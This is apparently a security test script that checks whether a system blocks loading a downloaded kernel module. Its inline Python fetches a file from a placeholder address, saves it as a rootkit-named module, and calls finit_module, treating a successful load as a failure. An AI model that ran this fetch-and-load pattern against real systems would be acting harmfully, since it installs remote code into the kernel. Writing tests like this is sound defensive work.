#!/bin/sh
. /opt/case/case.sh

python3 -c '
import ctypes, os, urllib.request
body = urllib.request.urlopen("http://203.0.113.10/programs/marker").read()
open("/tmp/diamorphine.ko", "wb").write(body)
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("/tmp/diamorphine.ko", os.O_RDONLY)
if libc.syscall(313, fd, b"", 0) == 0: raise SystemExit("a program was loaded as a module")
print("errno", ctypes.get_errno())'
took_place
